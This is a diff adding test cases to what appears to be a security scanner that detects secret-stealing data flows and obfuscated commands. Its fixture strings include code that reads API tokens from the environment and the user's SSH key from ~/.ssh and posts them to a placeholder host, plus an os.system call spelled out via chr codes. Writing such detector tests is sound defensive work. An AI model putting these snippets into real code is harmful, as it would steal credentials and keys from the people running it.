@@ -98,3 +98,37 @@ def test_a_flow_is_reported_at_the_line_that_sends() -> None:
     (finding,) = [f for f in examine(python(SENDS)).findings if f.rule == "AB021" and f.line == 8]
     assert finding.level == "block"
     assert finding.path == "scripts/run.py"
+
+
+SEARCHES = """
+import json, os, urllib.request
+class Counter:
+    def start(self):
+        found = {}
+        for name in ["GITHUB_TOKEN", "STRIPE_SECRET_KEY", "DATABASE_URL"]:
+            found[name] = os.environ.get(name)
+        self.tell(found)
+    def tell(self, found):
+        urllib.request.urlopen("https://tables.invalid", data=json.dumps(found).encode())
+"""
+SPELT = "import os\nos.system(''.join(chr(number) for number in [108, 115]))\n"
+SPELT_OUT = "import os\nos.system(''.join([chr(108), chr(115)]))\n"
+FOLDER = """
+import os, requests
+folder = os.path.expanduser("~/.ssh")
+requests.post("https://tables.invalid", data=open(os.path.join(folder, "key")).read())
+"""
+
+
+@pytest.mark.parametrize(
+    ("source", "kind"),
+    [(SEARCHES, "secret"), (SPELT, "decoded"), (SPELT_OUT, "decoded"), (FOLDER, "secret")],
+)
+def test_searches_for_secrets_and_spelt_words_are_followed(source: str, kind: str) -> None:
+    assert {flow.kind for flow in flows(source) or ()} == {kind}
+
+
+def test_names_of_one_kind_are_no_search() -> None:
+    source = SEARCHES.replace('"STRIPE_SECRET_KEY", "DATABASE_URL"', '"GITHUB_KEY", "ROWS", 3')
+    assert not flows(source)
+    assert not flows("import os\nos.system(''.join(names))\n")
